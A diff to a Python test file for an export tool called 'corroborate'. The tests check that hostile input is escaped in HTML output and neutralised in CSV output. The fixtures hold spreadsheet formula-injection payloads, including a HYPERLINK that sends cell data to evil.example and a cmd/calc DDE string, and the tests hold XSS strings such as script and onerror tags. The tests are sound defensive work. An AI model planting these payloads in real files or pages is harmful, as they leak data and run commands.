@@ -16,6 +16,7 @@ from corroborate.cli import cli
 from corroborate.embed import HashEmbedder
 from corroborate.export import render
 from corroborate.extract import build_nlp
+from corroborate.records import Annotation
 from corroborate.store import Store
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -36,10 +37,13 @@ HOSTILE_MD = [
 def report(labels: list[str], sources: list[str] | None = None) -> dict[str, Any]:
     """A report in the export's JSON shape, one cluster per label."""
     return {
+        "summary": {"documents": 0, "claims": 0, "clusters": len(labels), "clusters_shown": len(labels),
+                    "documents_shown": 0},
         "documents": [],
         "clusters": [
             {"id": f"c{i}", "status": "corroborated", "support": 2, "independent_support": 2, "label": label,
-             "sources": sources or ["wire"], "claims": [], "conflicts": [], "numbers": []}
+             "sources": sources or ["wire"], "claims": [], "conflicts": [], "numbers": [], "number_range": [],
+             "dates": None, "review": None}
             for i, label in enumerate(labels)
         ],
     }
@@ -102,7 +106,7 @@ def test_markdown_cell_passes_no_html_or_markdown_syntax(label: str) -> None:
     assert "](" not in cell.replace("\\](", "")
     for special in "`[]#|*_":
         assert special not in cell.replace("\\" + special, ""), special
-    assert len(_split_row(md.splitlines()[-1])) == 5  # the row still has its five columns
+    assert len(_split_row(md.splitlines()[-1])) == 8  # the row still has its eight columns
 
 
 def test_markdown_escapes_entities_and_keeps_the_words() -> None:
@@ -156,3 +160,24 @@ def test_json_export_keeps_the_hostile_text_exactly(hostile_export_db: Path) -> 
     out = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db)]).output
     sources = {d["source"] for d in json.loads(out)["documents"]}
     assert {r["source"] for r in HOSTILE_JSONL} == sources
+
+
+@pytest.mark.parametrize("extra", [(), ("--claims",)])
+def test_jsonl_source_field_and_article_text_are_escaped_in_html(
+    hostile_export_db: Path, extra: tuple[str, ...]
+) -> None:
+    page = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db), "--format", "html", *extra]).output
+    assert "<script>alert" not in page and "<img" not in page and "javascript:alert(1)\">" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "7 &lt;img src=x onerror=alert(1)&gt;" in page
+    assert page.count("<script>") == 1  # the page's own sorting script, nothing from the articles
+
+
+def test_csv_decision_reviewer_and_note_cells_are_neutralised(hostile_export_db: Path, tmp_path: Path) -> None:
+    db = tmp_path / "h.db"
+    db.write_bytes(hostile_export_db.read_bytes())
+    store = Store(db)
+    cluster = store.clusters()[0].id
+    store.annotate(Annotation("cluster", cluster, "note", "=evil()", "@SUM(A1)", cluster_id=cluster))
+    store.close()
+    rows = csv_rows(CliRunner().invoke(cli, ["export", "--db", str(db), "--format", "csv", "--reviewed"]).output)
+    assert [(r["reviewer"], r["note"]) for r in rows] == [("'=evil()", "'@SUM(A1)")]
